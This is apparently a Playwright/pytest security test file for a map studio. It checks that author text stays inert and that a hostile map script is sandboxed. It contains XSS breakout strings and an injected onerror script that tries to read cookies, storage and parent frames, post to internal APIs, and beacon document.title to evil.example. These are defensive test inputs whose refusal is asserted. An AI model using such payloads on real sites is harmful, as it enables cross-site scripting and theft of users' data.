"""A hostile map in a real browser: its texts stay texts, and a script in it reaches nothing of its viewer's."""

import json
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from playwright.sync_api import expect
from tests.conftest import Standalone
from tests.e2e.studio import Studio
from tests.waiting import until

BREAKING_OUT = (
    "</script><script>owned=1</script>",
    "</SCRIPT ><script>owned=1</script>",
    "</style><script>owned=1</script>",
    "<!--<script>",
    "<!-- --><script>owned=1</script><!--",
    "-->",
    "]]><script>owned=1</script>",
    "';owned=1;//",
    '"};owned=1;//',
    "`;owned=1;//${owned=1}",
    "\\\\",
    "\\u003c/script>\\u003cscript>owned=1",
    "\u2028owned=1\u2029",
    "\ufeff\u202e\u0085</script\u00a0>",
    "__proto__",
)
"""What has left a string, a script or a style sheet somewhere, once."""

# Every function that takes text from an author.
EVERYWHERE = """
import pandas, xatra
from xatra import Icon, gadm
for text in {texts!r}:
    xatra.Flag(text, gadm("BTN.1"), note=text, classes=text, display_label=text)
    xatra.River(text, {{"type": "Feature", "properties": {{text: text}}, "geometry":
                {{"type": "LineString", "coordinates": [[89, 27], [90, 28]]}}}}, note=text, classes=text, show_label=True)
    xatra.Path(text, [[27, 89], [28, 90]], note=text, classes=text, show_label=True)
    xatra.Point(text, [27, 89], note=text, classes=text, icon=Icon(text), show_label=True)
    xatra.Text(text, [27, 90], note=text, classes=text)
    xatra.TitleBox(text)
    xatra.CSS(text)
    xatra.BaseOption("https://tiles.example/" + text, name=text)
    xatra.Admin("BTN", level=1, classes=text)
    xatra.Data("BTN.2", 1, classes=text)
    xatra.Dataframe(pandas.DataFrame({{"GID": ["BTN.3"], "value": [1], "note": [text]}}), classes=text)
    xatra.Geocoder("nominatim", text)
"""

# Writes down how each attempt went; what a test does not await goes on in the background.
SCRIPT = """
const tried = {};
const attempt = async (name, trial) => {
  try { tried[name] = String(await trial()); } catch (error) { tried[name] = 'refused: ' + error.name; }
};
Promise.all([
  attempt('origin', () => self.origin),
  attempt('cookie', () => document.cookie),
  attempt('storage', () => localStorage.length),
  attempt('parent', () => parent.document.title),
  attempt('opener', () => top.document.cookie),
  attempt('siblings', () => parent.frames[0] === window ? 'only me' : parent.frames[0].document.title),
  attempt('top', () => { top.location = 'https://evil.example/'; return 'asked'; }),
  attempt('files', () => fetch('/xatra/api/files', { credentials: 'include' }).then(answer => answer.text())),
  attempt('main', () => fetch('MAIN/api/files', { credentials: 'include' }).then(answer => answer.text())),
  attempt('write', () => fetch('MAIN/api/renders', { method: 'POST', mode: 'no-cors', body: '{}' })),
  attempt('map', () => fetch(location.href).then(answer => answer.text())),
  attempt('beacon', () => fetch('https://evil.example/?' + document.title)),
  attempt('worker', () => navigator.serviceWorker.register(document.scripts[0].src)),
  attempt('eval', () => eval('1 + 1')),
  attempt('frame', () => new Promise(resolve => {
    const frame = document.createElement('iframe');
    frame.src = 'MAIN/';
    frame.onload = () => resolve(frame.contentDocument ? 'read' : 'closed');
    document.body.append(frame);
    setTimeout(() => resolve('closed'), 500);
  })),
  attempt('messages', () => { for (let n = 0; n < 1000; n++) parent.postMessage({ type: 'x', n }, '*'); return 'sent'; }),
]).then(() => { document.documentElement.dataset.tried = JSON.stringify(tried); });
"""


TILES = """
import xatra
xatra.BaseOption("OpenStreetMap", default=True)
xatra.BaseOption("Esri.WorldTerrain")
xatra.TitleBox("tiles")
"""


REFUSALS = {f"refused: {name}" for name in ("SecurityError", "TypeError", "EvalError", "NotSupportedError")}


def attack_on(main_url: str) -> str:
    script = SCRIPT.replace("MAIN", main_url.rstrip("/")).replace("\n", " ")
    return f"""
import xatra
xatra.TitleBox({f'<img src="data:," onerror="{script}">'!r})
"""


def tried_by_map(studio: Studio) -> dict[str, str]:
    """Return what became of each attempt."""
    found = until(lambda: studio.map_frame.evaluate("document.documentElement.dataset.tried"))
    tried: dict[str, str] = json.loads(str(found))
    return tried


def shown(studio: Studio, program: str) -> None:
    """Render a program that is not the one before, and wait for its map."""
    former = until(lambda: studio.map_address, seconds=60)  # the first one comes by itself
    studio.render(program)
    until(lambda: studio.map_address not in {former, ""}, seconds=60)
    ready = "document.readyState === 'complete' && !!document.querySelector('#baseLayer')"
    until(lambda: studio.map_frame.evaluate(ready))


def asked_for(studio: Studio) -> dict[str, str]:
    """Open the map alone; return each address that it then asks for, with the referrer that it gives."""
    address = studio.map_address
    asked: dict[str, str] = {}
    alone = studio.page.context.new_page()
    alone.on("request", lambda request: asked.update({request.url: request.headers.get("referer", "")}))
    alone.goto(address)
    alone.locator("#baseLayer").wait_for(state="attached")
    alone.close()
    return {url: referrer for url, referrer in asked.items() if url != address}


@pytest.fixture
def site_studio(
    open_studio: Callable[..., Studio],
    servers_home: Path,
    redis_program: Path,
    map_data: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> Iterator[Studio]:
    """Open the studio of a service whose maps have a site of their own."""
    service = Standalone(servers_home / "site", redis_program=redis_program, map_data=map_data)
    monkeypatch.setenv("ARTEFACT_ORIGIN", f"http://maps.localhost:{service.port}")
    service.start()
    studio = open_studio(service.url)
    studio.open()
    yield studio
    studio.page.close()
    service.stop()


def test_no_text_of_an_author_is_more_than_text(studio: Studio) -> None:
    shown(studio, "import xatra\nxatra.TitleBox('a')\n")
    scripts = studio.map_frame.evaluate("document.scripts.length")
    shown(studio, EVERYWHERE.format(texts=BREAKING_OUT))

    in_map = studio.map_frame.evaluate
    inert = "document.querySelectorAll('#map script, #title script').length"
    assert in_map(f"document.scripts.length - {inert}") == scripts
    assert in_map("typeof owned") == "undefined"
    assert in_map("payload.texts.map(text => text.label)") == list(BREAKING_OUT)


def test_a_hostile_map_reaches_nothing(studio: Studio) -> None:
    shown(studio, attack_on(studio.url))
    tried = tried_by_map(studio)

    assert tried.pop("origin") == "null"
    assert tried.pop("messages") == "sent"
    assert tried.pop("siblings") in {"only me", "refused: SecurityError"}  # the map before may still be there
    assert tried.pop("frame") == "closed"
    assert set(tried.values()) <= REFUSALS, tried
    assert studio.page.url == studio.url
    expect(studio.render_state).to_contain_text("Done")


def test_what_a_program_prints_is_shown_as_text(studio: Studio) -> None:
    studio.render('import xatra\nxatra.Text("here", [20, 80])\nprint("<b id=bold>bold</b>")\n')
    studio.wait_for_state("Done")
    studio.page.get_by_text("Printed by the program").click()
    expect(studio.page.get_by_text("<b id=bold>bold</b>").last).to_be_visible()
    assert studio.page.locator("#bold").count() == 0


def test_tiles_that_need_a_referrer_are_hidden_from_maps_without_a_site(studio: Studio) -> None:
    shown(studio, TILES)

    in_map = studio.map_frame.evaluate
    options = in_map("[...document.querySelector('#baseLayer').options].map(option => option.value)")
    assert options == ["none", "Esri.WorldTerrain"]
    assert "tiles are hidden" in in_map("document.querySelector('.leaflet-control-attribution').textContent")
    requests = asked_for(studio)
    assert any("/assets/" in address for address in requests)
    assert not any("tile.openstreetmap.org" in address for address in requests)
    assert set(requests.values()) == {""}


@pytest.mark.long
def test_on_a_site_of_their_own_maps_tell_tile_servers_who_asks_and_reach_no_more(site_studio: Studio) -> None:
    shown(site_studio, attack_on(site_studio.url))
    tried = tried_by_map(site_studio)
    origin = f"http://maps.localhost:{site_studio.url.rsplit(':')[2].split('/')[0]}"

    assert tried.pop("origin") == origin
    assert tried.pop("cookie") == ""
    assert tried.pop("storage") in {"0", "refused: SecurityError"}  # browsers that allow frames none say so
    assert tried.pop("messages") == "sent"
    # The map before may still be there; those of one site share its origin.
    assert tried.pop("siblings") in {"only me", "refused: SecurityError", ""}
    assert tried.pop("frame") == "closed"
    assert set(tried.values()) <= REFUSALS, tried
    assert site_studio.page.url == site_studio.url

    shown(site_studio, TILES)
    requests = asked_for(site_studio)
    assert {referrer for address, referrer in requests.items() if "tile.openstreetmap.org" in address} == {f"{origin}/"}
